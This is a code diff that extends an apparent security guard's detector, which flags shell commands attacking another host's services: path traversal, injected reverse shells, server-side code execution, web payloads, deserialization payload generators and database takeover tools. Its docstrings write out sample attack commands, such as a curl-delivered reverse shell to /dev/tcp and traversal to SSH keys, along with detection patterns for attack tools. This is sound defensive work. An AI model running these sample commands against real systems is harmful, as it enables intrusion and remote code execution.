@@ -21,7 +21,15 @@ purpose does, so each finding is :data:`~agentbus.guards.verdict.SERVICE_ATTACK`
 - an HTTP client whose URL climbs out of the server's web root (``curl --path-as-is
   http://h/../../home/u/.ssh/id_rsa``, ``%2e%2e%2f``): a path traversal, never a page a site serves;
   or that sends a reverse shell in a URL, a form field or a body (``curl h/shell.php --data-urlencode
-  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine.
+  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine (a web
+  shell's command is also judged as shell code, :mod:`..carriers`: that reverse shell is blocked); or
+  that sends code starting a process for a server to run (an Elasticsearch script calling
+  ``Runtime.getRuntime().exec``) or sets the command CouchDB runs as a query server;
+- a request whose content makes another host's web application open or run it (:mod:`..web_payloads`):
+  a file inclusion (``?page=php://filter/…``, ``?file=/etc/passwd``), a web shell's command (``?cmd=id``),
+  PHP, template, JNDI, XXE or SQL injections, a file that is code uploaded (``-F f=@shell.php``);
+- a deserialization or JNDI payload generator run (``java -jar ysoserial.jar``, ``phpggc``, ``marshalsec``);
+- database takeover tools (``odat``, ``redis-rogue-server.py``) pointed at another host.
 
 Port scans of a host or a LAN stay discovery (:mod:`.scanning` asks for sweeps of the internet);
 password guessing is :mod:`.cracking`'s; a tool asked for its help or version sends nothing.
@@ -37,6 +45,7 @@ from ..findings import positionals
 from ..findings import static_args as _values
 from ..programs import Invocation
 from ..verdict import SERVICE_ATTACK, Verdict
+from ..web_payloads import attack as web_attack
 from .cracking import nse_scripts
 
 __all__ = ["judge"]
@@ -57,11 +66,15 @@ _ENUMERATORS = frozenset({
     "ident-user-enum", "nfsshell",
 })  # fmt: skip
 """Programs that list another host's accounts, shares and services to attack next."""
-_TOOLS = _BRUTE_FORCERS | _VULNERABILITY_SCANNERS | _ENUMERATORS
+_DATABASE_ATTACKERS = frozenset({"odat", "redis-rogue-server"})
+"""Programs that take over a database server: ODAT (Oracle's scheduler jobs, Java, ``UTL_FILE`` writes,
+external tables), a rogue Redis master that ships a module to its replica."""
+_TOOLS = _BRUTE_FORCERS | _VULNERABILITY_SCANNERS | _ENUMERATORS | _DATABASE_ATTACKERS
 _PUBLISHED_SCRIPTS = frozenset({
     "finger-user-enum.pl", "smtp-user-enum.pl", "ident-user-enum.pl", "enum4linux.pl", "enum4linux-ng.py",
     "dirsearch.py", "sqlmap.py", "xsstrike.py", "nosqlmap.py", "tplmap.py", "sstimap.py",
     "nikto.pl", "ldapdomaindump.py", "windapsearch.py", "rpcdump.py", "samrdump.py", "lookupsid.py",
+    "odat.py", "redis-rogue-server.py",
 })  # fmt: skip
 """The tools published as scripts and run by their file's name (``./finger-user-enum.pl -U names -t H``)."""
 _INTERPRETERS = frozenset({"perl", "ruby"})
@@ -109,12 +122,26 @@ _TRAVERSAL = lazy_compile(r"(?:/|%2f|\\|=)(?:\.|%2e){2}(?:/|%2f|\\|$)")
 ``%2e%2e%2f``, ``?page=..%2f..%2fetc%2fpasswd``)."""
 
 
+_DOT_SEGMENT = lazy_compile(r"/\.\.?(?=/|$)")
+"""A plain ``.`` or ``..`` segment of a URL's path, which curl and wget remove before sending it."""
+
+
 def judge(invocation: Invocation, home: str) -> Verdict | None:
     """The attack on another machine's service in this command, or None."""
     name = invocation.name
     values = _values(invocation)
     if name in _HTTP_CLIENTS:
-        return _traversal(invocation, values) or _injected_shell(invocation, values)
+        return (
+            _traversal(invocation, values)
+            or _injected_shell(invocation, values)
+            or _server_code(invocation, values)
+            or _web_attack(invocation, values)
+        )
+    generator = _payload_generator(name, values)
+    if generator is not None:
+        return _verdict(
+            SERVICE_ATTACK, invocation, f"{generator} makes exploit payloads for another host's application"
+        )
     if name == "nmap":
         return _nmap_attack(invocation, values)
     if name in ("dig", "host", "drill"):
@@ -128,6 +155,8 @@ def judge(invocation: Invocation, home: str) -> Verdict | None:
         why = f"{tool} guesses a site's hidden paths from a word list"
     elif tool in _VULNERABILITY_SCANNERS:
         why = f"{tool} probes a site for flaws to exploit"
+    elif tool in _DATABASE_ATTACKERS:
+        why = f"{tool} takes over a database server to run commands or write files on its machine"
     else:
         why = f"{tool} lists another host's users, shares or services to attack"
     return _verdict(SERVICE_ATTACK, invocation, why)
@@ -161,12 +190,20 @@ def _tool_name(name: str, values: list[str]) -> str | None:
 
 
 def _traversal(invocation: Invocation, values: list[str]) -> Verdict | None:
-    """``curl --path-as-is http://h/../../etc/passwd``: a URL whose path climbs above the web root."""
+    """``curl --path-as-is http://h/../../etc/passwd``: a URL whose path climbs above the web root.
+
+    curl (unless told ``--path-as-is``) and wget remove a path's plain ``..`` segments before they send it
+    (RFC 3986's dot segments): ``curl localhost:3000/api/../health`` asks for ``/health``. What they keep is
+    judged: encoded dots and slashes (``..%2f``, ``%2e%2e/``), backslashes, and the query (``?f=../../x``)."""
+    squashed = invocation.name == "wget" or (invocation.name == "curl" and "--path-as-is" not in values)
     for value in values:
         scheme, sep, rest = value.partition("://")
         if not sep or not scheme.isalpha():
             continue
         path = rest.partition("/")[2].split("#", 1)[0]
+        if squashed:
+            path, mark, query = path.partition("?")
+            path = _DOT_SEGMENT.sub("/", "/" + path)[1:] + mark + query
         if _TRAVERSAL.search("/" + path.lower()):  # lower: %2E%2E is %2e%2e
             why = f"requests {value[:80]}, a path that climbs out of the server's web root (path traversal)"
             return _verdict(SERVICE_ATTACK, invocation, why)
@@ -202,6 +239,64 @@ def _injected_shell(invocation: Invocation, values: list[str]) -> Verdict | None
             why = f"sends a reverse shell for another machine to run ({value[:80]})"
             return _verdict(SERVICE_ATTACK, invocation, why)
     return None
+
+
+_PROCESS_CODE = lazy_compile(
+    r"\bgetRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\bProcessBuilder\s*\(|\bjava\.lang\.Runtime\b"
+)
+"""Java (Groovy, Painless, MVEL, OGNL) that starts a process: ``Runtime.getRuntime().exec("id")``."""
+_COUCHDB_COMMANDS = lazy_compile(r"/_config/(?:query_servers|os_daemons)/", re.IGNORECASE)
+"""CouchDB's settings whose value is a command the server runs (a query server, a daemon)."""
+
+
+def _server_code(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``curl h:9200/_search -d '{"script_fields":{"x":{"script":"…getRuntime().exec(\\"id\\")…"}}}'``:
+    code that starts a process sent for a server to run (Elasticsearch's scripts, an expression
+    language's field); ``curl -X PUT h:5984/_node/…/_config/query_servers/cmd -d '"CMD"'``: a command
+    CouchDB runs, set through its API."""
+    for value in values:
+        if ("exec" in value or "Runtime" in value or "Process" in value) and _PROCESS_CODE.search(value):
+            why = f"sends code that starts a process for a server to run ({value[:80]})"
+            return _verdict(SERVICE_ATTACK, invocation, why)
+        if "_config" in value and _COUCHDB_COMMANDS.search(value):
+            why = f"sets a command for CouchDB to run ({value[:80]})"
+            return _verdict(SERVICE_ATTACK, invocation, why)
+    return None
+
+
+def _web_attack(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``curl 'http://h/?page=php://filter/…'``, ``curl -A '<?php system(…) ?>' h``, ``curl -F f=@shell.php
+    h/upload.php``: what the request sends makes another host's web application open or run it."""
+    why = web_attack(invocation.name, values)
+    return _verdict(SERVICE_ATTACK, invocation, why) if why else None
+
+
+_PAYLOAD_GENERATORS = lazy_compile(
+    r"^(?:ysoserial[\w.-]*|phpggc|marshalsec[\w.-]*|jndiexploit[\w.-]*|rogue-?jndi[\w.-]*|jndi-injection-exploit[\w.-]*"
+    r"|jndi-exploit-kit[\w.-]*)(?:\.jar|\.exe|\.php)?$",
+    re.IGNORECASE,
+)
+"""Generators of deserialization and JNDI exploit payloads (``ysoserial``, ``phpggc``, ``marshalsec``,
+``JNDIExploit``, ``RogueJndi``): gadget chains that run a command in another host's application."""
+
+
+_GENERATOR_RUNNERS = frozenset({"java", "php"})
+"""What a generator published as a jar or a PHP script is run with."""
+_GENERATORS = frozenset({"phpggc", "ysoserial", "marshalsec"})
+"""The generators installed as programs (Kali's ``phpggc``, wrapper scripts)."""
+
+
+def _payload_generator(name: str, values: list[str]) -> str | None:
+    """``java -jar ysoserial-all.jar CommonsCollections5 CMD``, ``phpggc Laravel/RCE1 system id``: the
+    payload generator run (by name, as a jar or as a PHP script), or None."""
+    if name in _GENERATOR_RUNNERS:
+        name = next((v for v in values if not v.startswith("-")), "").rpartition("/")[2]
+    elif name.startswith("./"):
+        name = name[2:]
+    name = name.rpartition("/")[2]
+    if not _PAYLOAD_GENERATORS.match(name) or _INFO & set(values):
+        return None
+    return name
 
 
 def _zone_transfer(invocation: Invocation, values: list[str]) -> Verdict | None:
